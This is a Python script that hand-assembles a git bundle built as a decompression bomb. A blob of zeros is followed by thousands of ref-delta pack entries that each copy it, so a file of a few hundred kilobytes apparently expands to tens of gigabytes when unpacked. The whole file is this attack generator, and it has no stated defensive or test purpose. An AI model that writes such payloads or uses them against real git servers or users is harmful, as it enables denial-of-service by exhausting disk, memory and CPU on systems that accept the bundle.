"""A bundle of some hundred kilobytes that unpacks to tens of gigabytes: one blob, and thousands of deltas that copy it."""
import hashlib, struct, zlib


def named(kind, content):
    return hashlib.sha1(b"%s %d\0" % (kind, len(content)) + content)


def entry(kind, content, onto=b""):
    size, head = len(content), bytearray()
    byte, size = (kind << 4) | (size & 15), size >> 4
    while size:
        head.append(byte | 0x80)
        byte, size = size & 0x7F, size >> 7
    head.append(byte)
    return bytes(head) + onto + zlib.compress(content, 9)


def varint(value):
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(out) + bytes([value])


def delta(size, number):
    out = varint(size) + varint(size + 4)
    for done in range(0, size, 0xFFFFFF):
        out += b"\xff" + struct.pack("<I", done) + struct.pack("<I", min(size - done, 0xFFFFFF))[:3]
    return out + b"\x04" + struct.pack("<I", number)


def bundle(main, size, deltas):
    content = bytes(size)
    blob = named(b"blob", content).digest()
    tree = b"100644 zeros\0" + blob
    commit = ("tree %s\nparent %s\nauthor a <a@b> 1700000000 +0000\ncommitter a <a@b> 1700000000 +0000\n\nbomb\n" % (named(b"tree", tree).hexdigest(), main)).encode()
    pack = b"PACK" + struct.pack(">II", 2, deltas + 3) + entry(1, commit) + entry(2, tree) + entry(3, content)
    pack += b"".join(entry(7, delta(size, i), blob) for i in range(deltas))
    header = "# v2 git bundle\n-%s main\n%s refs/heads/exp/worst\n\n" % (main, named(b"commit", commit).hexdigest())
    return header.encode() + pack + hashlib.sha1(pack).digest()
